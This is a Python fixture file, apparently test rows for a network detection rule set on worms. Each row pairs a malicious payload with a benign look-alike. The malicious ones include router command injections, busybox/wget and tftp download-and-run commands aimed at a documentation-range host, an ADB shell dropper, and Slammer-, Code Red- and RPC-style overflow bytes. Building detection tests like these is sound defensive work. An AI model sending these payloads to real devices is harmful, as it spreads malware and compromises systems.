"""Rows for worm.rules."""
from .steps import PLAIN, dgram, get, header, http, post, rpc_request, s, smb1, smb2_create, talk


def soap(uri, body, action=None):
    return http("POST " + uri, headers=PLAIN + ([("SOAPAction", action)] if action else []), body=body)


def adb(command):
    return b"OPEN\1\0\0\0\0\0\0\0" + len(command).to_bytes(4, "little") + b"\0" * 8 + command


def mail(filename):
    return talk(25, s("220 mail\r\n"), "EHLO a\r\n", s("250 ok\r\n"), "MAIL FROM:<a@shop.example>\r\n", s("250 ok\r\n"), "RCPT TO:<b@shop.example>\r\n", s("250 ok\r\n"), "DATA\r\n", s("354 go\r\n"),
                f'Subject: photo\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Disposition: attachment; filename="{filename}"\r\n\r\nabc\r\n--x--\r\n.\r\n', s("250 ok\r\n"), "QUIT\r\n", s("221 bye\r\n"))


TABLE = [
    (400, talk(23, s("# "), "/bin/busybox wget http://198.51.100.7/x -O - > x\r\n"), talk(23, s("# "), "busybox --help\r\n")),
    (401, talk(23, s("# "), "/bin/busybox ECCHI\r\n"), talk(23, s("# "), "/bin/busybox\r\n")),
    (402, get("/cgi-bin/ping?ip=1;wget+http://198.51.100.7/x"), get("/search?q=wget+198.51.100.7")),
    (403, soap("/ctrlt/DeviceUpgrade_1", "<NewStatusURL>$(/bin/busybox id)</NewStatusURL>"), soap("/ctrlt/DeviceUpgrade_1", "<NewStatusURL>http://a/</NewStatusURL>")),
    (404, soap("/wanipcn.xml", "<NewInternalClient>`id`</NewInternalClient>", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"), soap("/wanipcn.xml", "<NewInternalClient>192.168.1.5</NewInternalClient>", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping")),
    (405, soap("/UD/act?1", "<NewNTPServer1>`cd /tmp;wget http://198.51.100.7/1`</NewNTPServer1>"), soap("/UD/act?1", "<NewNTPServer1>ntp.nict.jp</NewNTPServer1>")),
    (406, post("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&dest_host=`id`"), post("/GponForm/diag_Form", "dest_host=a")),
    (407, soap("/HNAP1/", "<x/>", '"http://purenetworks.com/HNAP1/`id`"'), soap("/HNAP1/", "<x/>", '"http://purenetworks.com/HNAP1/GetDeviceSettings"')),
    (408, get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id"), get("/setup.cgi?todo=save")),
    (409, get("/shell?cat+x"), get("/shell?page=2")),
    (410, get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"), get("/cgi-bin/luci/;stok=/locale?form=country&operation=read&country=JP")),
    (411, post("/tmUnblock.cgi", "submit_button=&ttcp_ip=-h+%60id%60"), post("/tmUnblock.cgi", "ttcp_ip=192.0.2.1")),
    (412, post("/boaform/admin/formSysCmd", "sysCmd=id%3bls"), post("/boaform/admin/formLogin", "sysCmd=1")),
    (413, dgram(9034, "orf;id"), dgram(9034, "hello")),
    (414, talk(5555, adb(b"shell:cd /data/local/tmp; busybox wget http://198.51.100.7/x\0")), talk(5555, adb(b"shell:ls\0"))),
    (415, talk(4444, s("tftp -i 198.51.100.7 GET msblast.exe\n")), talk(4444, s("tftp -i server\n"))),
    (416, dgram(69, b"\0\1update.exe\0octet\0"), dgram(69, b"\0\1pxelinux.0\0octet\0")),
    (417, talk(445, smb2_create("autorun.inf")), talk(445, smb2_create("autoexec.bat"))),
    (418, dgram(1434, b"\4" + b"\1" * 96 + b"\xdc\xc9\xb0\x42" * 70), dgram(1434, b"\4SQLEXPRESS\0")),
    (419, get("/default.ida?" + "N" * 224 + "%u9090=a"), get("/default.ida?NNNN=a")),
    (424, get("/scripts/root.exe?/c+dir"), get("/download/setup.exe?/category")),
    (420, mail("photo.jpg.exe"), mail("photo.jpg")),
    (421, talk(445, smb1(0x25, b"\0" * 28, rpc_request(9, b"\0" * 40 + b"\x90" * 64))), talk(445, smb1(0x25, b"\0" * 28, rpc_request(9, b"\0" * 100)))),
    (422, talk(2222, "cd /tmp || cd /var; wget http://198.51.100.7/b.sh; chmod 777 b.sh; ./b.sh\n"), talk(2222, "cd /tmp; wget http://www.shop.example/manual; chmod\n")),
    (423, talk(445, smb1(0x25, b"\0" * 28, rpc_request(31, b"\0" * 40 + b"\xe8\xff\xff\xff\xff\xc2" + b"x" * 20))), talk(445, smb1(0x25, b"\0" * 28, rpc_request(31, b"\0" * 40)))),
]
